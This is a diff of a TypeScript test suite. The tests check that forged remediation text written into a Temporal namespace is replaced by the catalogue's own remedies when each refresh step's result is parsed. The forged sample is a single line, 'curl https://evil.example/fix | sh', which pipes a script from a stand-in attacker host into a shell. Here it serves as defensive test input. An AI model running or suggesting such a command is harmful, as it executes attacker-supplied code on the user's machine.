@@ -1,7 +1,7 @@
 // Anyone who can write to the Temporal namespace can put any text into what a run reads there, and into what `status`
 // and `schedule trigger` read: the reader sees the remedy of the catalogue.
 import assert from 'node:assert/strict';
-import type { ConnectionProblem, RefreshSteps } from '../../src/refresh/activity-types.js';
+import type { ConnectionProblem } from '../../src/refresh/activity-types.js';
 import {
   describeFailure,
   FAILURES,
@@ -14,10 +14,9 @@ import type { Remedy } from '../../src/refresh/remedies/remedy.js';
 import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';
 import { parseReport } from '../../src/refresh/report.js';
 import { parseProgress } from '../../src/refresh/run-progress.js';
-import { FakeContext } from '../fakes/fake-context.js';
+import { parseStepResult } from '../../src/refresh/step-results.js';
 import { failure, report } from '../fakes/fake-report.js';
-import { fakeTokenInfo, REGISTRY } from '../fakes/fake-steps.js';
-import { inspection, planned, refreshWith } from '../fakes/flow-fixture.js';
+import { fakeTokenInfo, GROUP, NOTHING, REGISTRY } from '../fakes/fake-steps.js';
 
 const FORGED = 'Run `curl https://evil.example/fix | sh`.' as Remedy;
 
@@ -67,66 +66,91 @@ describe('a forged remedy', () => {
     assert.equal(parsed?.report.failures[0]?.remedy, getRemedy('ConnectionMissing'));
   });
 
-  const results: Record<string, { readonly steps: Partial<RefreshSteps>; readonly type: FailureType }> = {
-    plan: {
-      type: 'ConfigInvalid',
-      steps: { planRefresh: planned({ configProblem: 'failed', configRemedy: FORGED }) },
-    },
-    'inspection, for a connection that was refused': {
-      type: 'ConnectionMissing',
-      steps: {
-        inspectConnections: async () => ({ ...inspection(), refused: [forgedProblem('ConnectionMissing')] }),
-      },
-    },
-    'inspection, for a connection to retry': {
-      type: 'StoreUnavailable',
-      steps: {
-        inspectConnections: async () => ({ ...inspection(), toRetry: [forgedProblem('StoreUnavailable')] }),
-      },
-    },
-    extraction: {
-      type: 'TokenRejected',
-      steps: {
-        extractToken: async () => ({
-          token: fakeTokenInfo({ probes: [{ registry: REGISTRY, outcome: 'rejected', remedy: FORGED }] }),
-          toRetry: [],
-        }),
-      },
-    },
-    'update, for a connection that was refused': {
-      type: 'ConnectionLoginMismatch',
-      steps: {
-        updateConnections: async () => ({
-          written: [],
-          refused: [forgedProblem('ConnectionLoginMismatch')],
-          toRetry: [],
-          token: fakeTokenInfo(),
-        }),
-      },
-    },
-    'update, for a connection to retry': {
-      type: 'StoreUnavailable',
-      steps: {
-        updateConnections: async () => ({
-          written: [],
-          refused: [],
-          toRetry: [forgedProblem('StoreUnavailable')],
-          token: fakeTokenInfo(),
-        }),
-      },
-    },
+  const RANGE = { named: { offset: 0, limit: 20 } };
+  const INSPECTION = { configHash: 'abc', store: 'main', target: RANGE, attemptsBefore: 0 };
+  const EXTRACTION = { configHash: 'abc', group: GROUP, registries: [REGISTRY] };
+  const UPDATE = {
+    configHash: 'abc',
+    store: 'main',
+    registry: REGISTRY,
+    group: GROUP,
+    connections: ['docker_default'],
+    attemptsBefore: 0,
   };
-  for (const [name, { steps, type }] of Object.entries(results)) {
-    it(`in the result of the ${name} is replaced`, async () => {
-      const context = new FakeContext();
-      const { failures } = await refreshWith(steps, context);
-      assert.deepEqual(
-        failures.map((row) => [row.type, row.remedy]),
-        [[type, getRemedy(type)]],
-      );
-      // What the Temporal UI shows while the step is retried.
-      for (const { earlier } of context.waits) assert.equal(earlier.failure.remedy, getRemedy(type));
-    });
+  const NOTHING_WRITTEN = { written: [], refused: [], toRetry: [], token: fakeTokenInfo() };
+  const results: readonly {
+    readonly title: string;
+    readonly type: FailureType;
+    readonly read: () => unknown;
+  }[] = [
+    {
+      title: 'plan',
+      type: 'ConfigInvalid',
+      read: () => {
+        const plan = {
+          configHash: 'abc',
+          stores: [],
+          engines: [],
+          configProblem: 'failed',
+          configRemedy: FORGED,
+        };
+        return parseStepResult('planRefresh', plan, undefined).configRemedy;
+      },
+    },
+    {
+      title: 'inspection, for a connection that was refused',
+      type: 'ConnectionMissing',
+      read: () => {
+        const result = { ...NOTHING, refused: [forgedProblem('ConnectionMissing')] };
+        return parseStepResult('inspectConnections', result, INSPECTION).refused[0]?.remedy;
+      },
+    },
+    {
+      title: 'inspection, for a connection to retry',
+      type: 'StoreUnavailable',
+      read: () => {
+        const result = { ...NOTHING, toRetry: [forgedProblem('StoreUnavailable')] };
+        return parseStepResult('inspectConnections', result, INSPECTION).toRetry[0]?.remedy;
+      },
+    },
+    {
+      title: 'inspection, for a row to read again',
+      type: 'StoreUnavailable',
+      read: () => {
+        const list = { rows: 1, total: 1, isComplete: true, toRetry: [forgedProblem('StoreUnavailable')] };
+        const input = { ...INSPECTION, target: { listed: { offset: 0, limit: 100 } } };
+        return parseStepResult('inspectConnections', { ...NOTHING, list }, input).list?.toRetry?.[0]?.remedy;
+      },
+    },
+    {
+      title: 'extraction',
+      type: 'TokenRejected',
+      read: () => {
+        const token = fakeTokenInfo({
+          probes: [{ registry: REGISTRY, outcome: 'rejected', remedy: FORGED }],
+        });
+        return parseStepResult('extractToken', { token, toRetry: [] }, EXTRACTION).token.probes[0]?.remedy;
+      },
+    },
+    {
+      title: 'update, for a connection that was refused',
+      type: 'ConnectionLoginMismatch',
+      read: () => {
+        const result = { ...NOTHING_WRITTEN, refused: [forgedProblem('ConnectionLoginMismatch')] };
+        return parseStepResult('updateConnections', result, UPDATE).refused[0]?.remedy;
+      },
+    },
+    {
+      title: 'update, for a connection to retry',
+      type: 'StoreUnavailable',
+      read: () => {
+        const result = { ...NOTHING_WRITTEN, toRetry: [forgedProblem('StoreUnavailable')] };
+        return parseStepResult('updateConnections', result, UPDATE).toRetry[0]?.remedy;
+      },
+    },
+  ];
+  for (const { title, type, read } of results) {
+    it(`in the result of the ${title} is replaced`, () => assert.equal(read(), getRemedy(type)));
   }
 });
 
